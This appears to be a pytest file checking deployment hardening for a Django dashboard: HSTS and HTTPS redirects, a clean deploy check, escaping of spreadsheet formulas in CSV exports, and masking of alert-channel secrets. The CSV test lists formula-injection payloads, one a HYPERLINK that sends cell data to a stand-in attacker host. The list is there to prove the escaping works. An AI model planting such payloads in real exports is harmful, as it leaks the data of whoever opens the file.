"""The deployment passes its own checklist: HSTS and the HTTPS redirect behind TLS, `check --deploy` clean with
the README's production environment, spreadsheet formulas defused in evidence CSVs, channel secrets hidden from
those who may only look."""

from __future__ import annotations

import csv
import io
import json
import os
import secrets
import subprocess
import sys
import zipfile
from pathlib import Path

from django.contrib.auth.models import Permission
from django.urls import reverse

from alerts.models import Channel
from audit import trail
from evidence.zipstream import PackageWriter

ROOT = Path(__file__).resolve().parent.parent
# The README's "Running it in production" environment.
PRODUCTION = {
    "ALLOWED_HOSTS": "lifeboat.example.com",
    "CSRF_TRUSTED_ORIGINS": "https://lifeboat.example.com",
    "BEHIND_TLS_PROXY": "1",
    "SECURE_COOKIES": "1",
    "SECURE_HSTS_PRELOAD": "1",
    "LIFEBOAT_REQUIRE_2FA_ROLES": "Admin,DBA",
}


def test_check_deploy_is_clean_with_the_production_environment(tmp_path):
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SECURE_", "DEBUG"))}
    env.update(PRODUCTION, SECRET_KEY=secrets.token_urlsafe(50), LIFEBOAT_VAR_DIR=str(tmp_path),
               DJANGO_SETTINGS_MODULE="dashboard.settings")
    result = subprocess.run([sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
                            cwd=ROOT, env=env, capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_hsts_and_https_redirect_behind_tls(client, settings):
    settings.SECURE_SSL_REDIRECT = True
    settings.SECURE_HSTS_SECONDS = 31_536_000
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    plain = client.get(reverse("login"))
    assert plain.status_code == 301 and plain.url.startswith("https://")
    secure = client.get(reverse("login"), headers={"X-Forwarded-Proto": "https"})
    assert secure.status_code == 200
    assert secure.headers["Strict-Transport-Security"].startswith("max-age=31536000")
    assert client.get("/healthz").status_code != 301  # load balancers probe it over plain HTTP


def test_evidence_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    with zipfile.ZipFile(tmp_path / "p.zip", "w") as archive:
        PackageWriter(archive).write_rows("rows.csv", "csv", ("summary",), [{"summary": v} for v in hostile + ["ok"]])
        PackageWriter(archive).write_rows("rows.jsonl", "jsonl", ("summary",), [{"summary": hostile[0]}])
    with zipfile.ZipFile(tmp_path / "p.zip") as archive:
        cells = [row[0] for row in csv.reader(io.StringIO(archive.read("rows.csv").decode(), newline=""))][1:]
        assert cells == ["'" + v for v in hostile] + ["ok"]
        assert json.loads(archive.read("rows.jsonl"))["summary"] == hostile[0]  # JSON keeps the value as it was


def test_a_view_only_admin_user_never_sees_a_channel_secret(client, make_user):
    channel = Channel.objects.create(name="pager", url="json://hooks.example.com/s3cr3t-token")
    viewer = make_user("vera-viewer", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_channel"))
    client.force_login(viewer)
    page = client.get(reverse("admin:alerts_channel_change", args=[channel.pk]))
    assert page.status_code == 200
    assert "s3cr3t-token" not in page.text and "json://…" in page.text


def test_an_admin_who_may_change_a_channel_still_edits_its_url(client, admin_user):
    admin_user.is_staff = True
    admin_user.save(update_fields=["is_staff"])
    channel = Channel.objects.create(name="pager", url="json://hooks.example.com/s3cr3t-token")
    client.force_login(admin_user)
    page = client.get(reverse("admin:alerts_channel_change", args=[channel.pk]))
    assert page.status_code == 200 and 'name="url"' in page.text
    trail.record("test.noop", summary="keeps the audit trail non-empty")
